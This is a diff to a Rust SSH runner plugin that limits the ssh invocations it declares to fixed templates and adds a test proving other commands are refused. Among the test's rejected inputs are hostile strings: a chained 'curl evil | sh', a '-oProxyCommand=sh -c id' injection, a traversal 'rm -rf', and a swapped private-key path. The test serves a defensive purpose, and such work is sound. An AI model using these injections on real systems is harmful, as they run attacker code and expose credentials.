@@ -12,12 +12,14 @@
 //! host without bubblewrap refuses the shard saying what to install; `none`: trials run as
 //! the ssh user, seeing what it sees).
 //!
-//! Capabilities: `ssh`, with only the options below. An option the patterns do not name (say
-//! `-oProxyCommand=…`) is refused by the host even though `ssh` itself is granted.
+//! Capabilities: `ssh`, one argv template per remote command line (the worker's, a tar
+//! stream in, one out, `mktemp -d` and `rm -rf` of a shard's directory under `workdir`), with
+//! only the options [`SSH_OPTIONS`] names. The host refuses anything else, `-oProxyCommand=…`
+//! or a second remote command, even though `ssh` itself is granted.
 
 use mst_sdk::runner::{
-    self, Capability, CommandChannel, ErrorCode, ExecRequest, Machine, MachineSpec, PluginError,
-    PluginInfo, Runner, Shard,
+    self, Capability, CommandChannel, ErrorCode, Machine, MachineSpec, PluginError, PluginInfo,
+    Runner, Shard,
 };
 use serde::{Deserialize, Serialize};
 
@@ -67,30 +69,57 @@ const SCHEMA: &str = r#"{
     "hosts": {"type": "string", "minLength": 1},
     "identity": {"type": "string", "pattern": "^/"},
     "knownHosts": {"type": "string", "pattern": "^/"},
-    "workdir": {"type": "string", "pattern": "^/[A-Za-z0-9/._-]*$"},
+    "workdir": {"type": "string", "pattern": "^(/[A-Za-z0-9._-]+)+$"},
     "connectTimeout": {"type": "integer", "minimum": 1, "maximum": 600},
     "isolation": {"type": "string", "enum": ["bwrap", "none"]}
   }
 }"#;
 
-/// The `ssh` arguments this plugin may use. Options are spelled `-oName=value` so that each is
-/// one word a pattern can pin down; `**` covers the destination and the remote command line
-/// (which holds paths), which the host never lets match an option or climb a `..`.
-const SSH_PATTERNS: &[&str] = &[
+/// `ssh`'s arguments up to the destination, as [`Target::ssh_args`] writes them, in template
+/// words: options spelled `-oName=value` so that each is one word, those it writes only
+/// sometimes in brackets, the key files pinned to the operator's options. The destination
+/// comes from the operator's `hosts` list, which a pattern cannot name, so it is `*` (never an
+/// option, never shell syntax).
+const SSH_OPTIONS: &[&str] = &[
     "-T",
     "-oBatchMode=yes",
-    "-oConnectTimeout=*",
-    "-oServerAliveInterval=*",
-    "-oServerAliveCountMax=*",
+    "-oConnectTimeout={option:connectTimeout=10}",
+    "-oServerAliveInterval=5",
+    "-oServerAliveCountMax=3",
     "-oLogLevel=ERROR",
-    "-oIdentitiesOnly=yes",
-    "-oIdentityFile=/**",
-    "-oUserKnownHostsFile=/**",
-    "-oStrictHostKeyChecking=yes",
-    "-oPort=*",
+    "[-oIdentitiesOnly=yes]",
+    "[-oIdentityFile={option:identity}]",
+    "[-oUserKnownHostsFile={option:knownHosts}]",
+    "[-oStrictHostKeyChecking=yes]",
+    "[-oPort=*]",
     "--",
-    "**",
+    "*",
 ];
+
+/// The remote command lines besides the worker's, each one word (ssh joins its words into one
+/// line for the remote shell, so a wildcard never matches a space or shell syntax): unpack a
+/// tar stream into the work directory, pack files of it, make a shard's directory under the
+/// operator's `workdir`, remove it.
+const PUT: &str = "tar -x -f - -C {workdir}";
+const GET: &str = "tar -c -f - -C {workdir} {src}";
+const MKTEMP: &str = "mktemp -d {option:workdir=/tmp}/mst-*-XXXXXXXX";
+const REMOVE: &str = "rm -rf {option:workdir=/tmp}/mst-*";
+
+/// What the plugin declares: one `ssh` template per remote command line.
+fn declared() -> Vec<Capability> {
+    let remotes = [
+        exec_line(Isolation::Bwrap),
+        exec_line(Isolation::None),
+        vec![PUT],
+        vec![GET],
+        vec![MKTEMP],
+        vec![REMOVE],
+    ];
+    remotes
+        .iter()
+        .map(|remote| runner::exec_template("ssh", &[SSH_OPTIONS, remote].concat()))
+        .collect()
+}
 
 /// The remote command line that starts the worker (`{command}`) in its work directory.
 fn exec_line(isolation: Isolation) -> Vec<&'static str> {
@@ -230,10 +259,7 @@ impl Runner for Ssh {
             name: "mst/runner/ssh".into(),
             version: env!("CARGO_PKG_VERSION").into(),
             description: "Shards on hosts reached over OpenSSH".into(),
-            capabilities: vec![Capability::Exec(ExecRequest {
-                program: "ssh".into(),
-                args: SSH_PATTERNS.iter().map(|p| p.to_string()).collect(),
-            })],
+            capabilities: declared(),
             options_schema: Some(SCHEMA.into()),
         }
     }
@@ -258,7 +284,7 @@ impl Runner for Ssh {
         // could have prepared on a shared host, and a resumed shard never reuses a kept one.
         let made = target.run(&format!(
             "mktemp -d {}/mst-{}-{}-XXXXXXXX",
-            options.workdir.trim_end_matches('/'),
+            options.workdir,
             plain(&shard.run_id),
             shard.index
         ))?;
@@ -284,8 +310,8 @@ impl Runner for Ssh {
             description,
             spec: MachineSpec::Command(CommandChannel {
                 exec: target.template(&exec_line(options.isolation)),
-                put: target.template(&["tar -x -f - -C {workdir}"]),
-                get: target.template(&["tar -c -f - -C {workdir} {src}"]),
+                put: target.template(&[PUT]),
+                get: target.template(&[GET]),
                 workdir: target.dir.clone(),
             }),
         })
@@ -322,30 +348,54 @@ mod tests {
     }
 
     #[test]
-    fn templates_use_only_declared_option_spellings() {
+    fn every_command_is_a_declared_template_and_no_other_is() {
         let target = Target {
             destination: "root@h".into(),
             port: Some(2201),
             identity: Some("/k/id".into()),
             known_hosts: Some("/k/known".into()),
             connect_timeout: 5,
-            dir: "/tmp/mst-r-0".into(),
+            dir: "/scratch/mst-r-0-AbC123xy".into(),
         };
-        let argv = target.template(&["{command}"]);
-        for arg in &argv[1..] {
-            // As the host matches (`**` across `/`, `*` within a segment), for these words.
-            let wildcard = |p: &'static str| p.split_once("**").or_else(|| p.split_once('*'));
-            let declared = SSH_PATTERNS.iter().any(|p| match wildcard(p) {
-                Some((head, tail)) => {
-                    arg.starts_with(head)
-                        && arg.ends_with(tail)
-                        && (!arg.starts_with('-') || p.starts_with('-'))
-                }
-                None => p == arg,
-            });
-            assert!(declared, "{arg} is not declared");
+        let given = [
+            ("identity", "/k/id"),
+            ("knownHosts", "/k/known"),
+            ("connectTimeout", "5"),
+            ("workdir", "/scratch"),
+        ];
+        let admitted = |argv: &[String]| runner::exec_admitted(&declared(), &given, "ssh", argv);
+        let remote = |line: &str| {
+            let mut argv = target.ssh_args();
+            argv.push(line.to_string());
+            argv
+        };
+        for isolation in [Isolation::Bwrap, Isolation::None] {
+            assert!(admitted(&target.template(&exec_line(isolation))[1..]));
         }
-        assert_eq!(&argv[argv.len() - 3..], ["--", "root@h", "{command}"]);
+        for line in [
+            PUT,
+            GET,
+            "mktemp -d /scratch/mst-r-0-XXXXXXXX",
+            "rm -rf /scratch/mst-r-0-AbC123xy",
+        ] {
+            assert!(admitted(&remote(line)), "{line}");
+        }
+        // Another directory, a second command, another key, an option smuggled in: refused.
+        for line in [
+            "rm -rf /home/u/mst-x",
+            "rm -rf /scratch/mst-x/..",
+            "rm -rf /scratch/mst-x; curl evil | sh",
+            "rm -rf /scratch/mst-*",
+        ] {
+            assert!(!admitted(&remote(line)), "{line}");
+        }
+        let mut other_key = remote(PUT);
+        other_key[7] = "-oIdentityFile=/home/u/.ssh/id_rsa".into();
+        assert!(!admitted(&other_key), "{other_key:?}");
+        let mut proxy = remote(PUT);
+        proxy.insert(1, "-oProxyCommand=sh -c id".into());
+        assert!(!admitted(&proxy));
+        assert_eq!(&target.template(&["{command}"])[1..], remote("{command}"));
         let id = serde_json::to_string(&target).unwrap();
         assert_eq!(serde_json::from_str::<Target>(&id).unwrap(), target);
     }
